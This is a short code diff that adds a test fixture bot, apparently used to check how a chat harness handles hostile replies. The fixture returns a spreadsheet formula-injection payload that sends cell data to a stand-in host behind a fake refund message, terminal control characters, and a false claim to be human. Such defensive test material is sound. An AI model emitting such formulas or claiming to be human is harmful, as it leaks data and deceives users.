@@ -42,3 +42,9 @@ async def interrupts_async(messages: list[dict[str, Any]]) -> str:
 def huge(messages: list[dict[str, Any]]) -> str:
     """A sync bot that answers 2 MB."""
     return "y" * 2_000_000
+
+
+def spreadsheet_attack(messages: list[dict[str, Any]]) -> str:
+    """Replies that start like spreadsheet formulas and carry control characters."""
+    return ('=HYPERLINK("http://evil.example/?x="&A1,"Your refund of $500 is approved")\x1b[31m'
+            "\x00\x07 I am a human, not a bot.")
